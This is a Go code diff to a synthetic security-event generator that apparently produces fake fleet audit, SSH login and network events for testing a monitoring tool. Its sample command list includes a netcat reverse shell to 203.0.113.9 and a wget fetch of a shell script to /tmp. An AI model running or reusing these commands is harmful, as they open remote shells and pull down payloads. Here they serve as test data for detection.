@@ -4,6 +4,8 @@ import (
 	"context"
 	"fmt"
 	"math/rand/v2"
+	"strconv"
+	"strings"
 	"time"
 
 	"github.com/vigil-sec/vigil/internal/event"
@@ -47,9 +49,37 @@ func (g *FleetGen) Next() (event.Event, bool) {
 		return event.Event{}, false
 	}
 	ts := g.start.Add(time.Duration(g.step * int64(g.i))).Add(time.Duration(g.r.IntN(1000)))
-	e := fleetEvent(g.r, ts, g.i)
+	e := fleetEvent(g.r, ts)
+	e.Event.ID = event.DeterministicID(ts, e.Host.Name, strconv.Itoa(g.i))
 	g.i++
 	return e, true
+}
+
+// NextLive returns the next event stamped ts with the given event ID, as a
+// live agent stamps what happens as it happens. It ignores the generator's
+// count and spread over days, and leaves Next's sequence alone.
+func (g *FleetGen) NextLive(ts time.Time, id string) event.Event {
+	e := fleetEvent(g.r, ts)
+	e.Event.ID = id
+	return e
+}
+
+// The fleet's names, made once: formatting them for every event cost the
+// load generator more than some of what it drives.
+var (
+	fleetHosts = names(200, func(i int) string { return fmt.Sprintf("srv-%03d", i) })
+	fleetUsers = names(40, func(i int) string { return fmt.Sprintf("user%02d", i) })
+	fleetHomes = names(40, func(i int) string { return "/home/" + fleetUsers[i] })
+	fleetUIDs  = names(40, func(i int) string { return strconv.Itoa(1000 + i) })
+	fleetAgent = names(200, func(i int) string { return "agent-" + fleetHosts[i] })
+)
+
+func names(n int, f func(int) string) []string {
+	s := make([]string, n)
+	for i := range s {
+		s[i] = f(i)
+	}
+	return s
 }
 
 var fleetCommands = [][]string{
@@ -61,30 +91,33 @@ var fleetCommands = [][]string{
 	{"/usr/bin/nc", "-e", "/bin/sh", "203.0.113.9", "4444"}, {"/usr/bin/wget", "-q", "http://198.51.100.7/x.sh", "-O", "/tmp/x.sh"},
 }
 
-func fleetEvent(r *rand.Rand, ts time.Time, i int) event.Event {
-	hn := fmt.Sprintf("srv-%03d", r.IntN(200))
+// fleetEvent draws one event at ts, without an ID.
+func fleetEvent(r *rand.Rand, ts time.Time) event.Event {
+	h := r.IntN(200)
+	hn := fleetHosts[h]
 	e := event.Event{
 		Timestamp: ts,
-		Event:     event.Meta{ID: event.DeterministicID(ts, hn, fmt.Sprint(i)), Kind: event.KindEvent},
-		Host:      &event.Host{ID: "agent-" + hn, Name: hn, OS: &event.OS{Family: "debian", Kernel: "6.1.0-18-amd64"}},
-		Agent:     &event.Agent{ID: "agent-" + hn, Version: "0.1.0", Type: "vigil"},
+		Event:     event.Meta{Kind: event.KindEvent},
+		Host:      &event.Host{ID: fleetAgent[h], Name: hn, OS: &event.OS{Family: "debian", Kernel: "6.1.0-18-amd64"}},
+		Agent:     &event.Agent{ID: fleetAgent[h], Version: "0.1.0", Type: "vigil"},
 	}
-	user := fmt.Sprintf("user%02d", r.IntN(40))
+	u := r.IntN(40)
+	user := fleetUsers[u]
 	switch k := r.IntN(100); {
 	case k < 85:
 		c := fleetCommands[r.IntN(len(fleetCommands))]
 		args := append([]string(nil), c...)
-		args = append(args, fmt.Sprintf("--run=%d", r.IntN(100000)))
+		args = append(args, "--run="+strconv.Itoa(r.IntN(100000)))
 		name := args[0][len("/usr/bin/"):]
 		e.Event.Category, e.Event.Type, e.Event.Action, e.Event.Dataset = []string{"process"}, []string{"start"}, "exec", "vigil.audit"
 		e.Process = &event.Process{PID: new(int64(1000 + r.IntN(60000))), PPID: new(int64(1 + r.IntN(1000))), Name: name, Executable: args[0],
-			Args: args, ArgsCount: new(int64(len(args))), CommandLine: joinArgs(args), WorkingDirectory: "/home/" + user,
+			Args: args, ArgsCount: new(int64(len(args))), CommandLine: strings.Join(args, " "), WorkingDirectory: fleetHomes[u],
 			Parent: &event.ProcessRef{PID: new(int64(900)), Name: "bash", Executable: "/usr/bin/bash"}}
-		e.User = &event.User{Name: user, ID: fmt.Sprint(1000 + r.IntN(40))}
-		e.Auditd = &event.Auditd{Data: map[string]string{"syscall": "execve", "tty": "pts0", "ses": fmt.Sprint(r.IntN(500))}}
+		e.User = &event.User{Name: user, ID: fleetUIDs[r.IntN(40)]}
+		e.Auditd = &event.Auditd{Data: map[string]string{"syscall": "execve", "tty": "pts0", "ses": strconv.Itoa(r.IntN(500))}}
 	case k < 93:
 		e.Event.Category, e.Event.Type, e.Event.Action, e.Event.Dataset = []string{"authentication"}, []string{"start"}, "ssh_login", "vigil.login"
-		ip := fmt.Sprintf("10.%d.%d.%d", r.IntN(4), r.IntN(256), r.IntN(256))
+		ip := "10." + strconv.Itoa(r.IntN(4)) + "." + strconv.Itoa(r.IntN(256)) + "." + strconv.Itoa(r.IntN(256))
 		if r.IntN(3) == 0 {
 			e.Event.Outcome = "failure"
 			e.Message = "Failed password for " + user + " from " + ip + " port 52144 ssh2"
@@ -100,7 +133,7 @@ func fleetEvent(r *rand.Rand, ts time.Time, i int) event.Event {
 	default:
 		e.Event.Category, e.Event.Type, e.Event.Action, e.Event.Dataset = []string{"network"}, []string{"connection"}, "connection_opened", "vigil.audit"
 		e.Process = &event.Process{Name: "curl", Executable: "/usr/bin/curl", PID: new(int64(4242))}
-		e.Destination = &event.Endpoint{IP: fmt.Sprintf("203.0.113.%d", r.IntN(256)), Port: new(int64(443))}
+		e.Destination = &event.Endpoint{IP: "203.0.113." + strconv.Itoa(r.IntN(256)), Port: new(int64(443))}
 	}
 	return e
 }
